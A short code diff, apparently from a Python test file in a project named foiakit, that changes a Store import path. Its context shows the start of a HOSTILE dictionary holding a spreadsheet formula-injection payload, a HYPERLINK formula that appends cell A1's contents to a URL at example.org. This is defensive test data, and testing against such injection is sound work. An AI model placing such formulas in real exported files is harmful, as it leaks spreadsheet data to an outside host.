@@ -20,7 +20,7 @@ from faults.extent import often
 from program import Run
 
 from foiakit.model.record import Record
-from foiakit.store import Store
+from foiakit.store.store import Store
 
 HOSTILE = {
     "formula": "=HYPERLINK(\"http://example.org/?\"&A1,\"look\")",
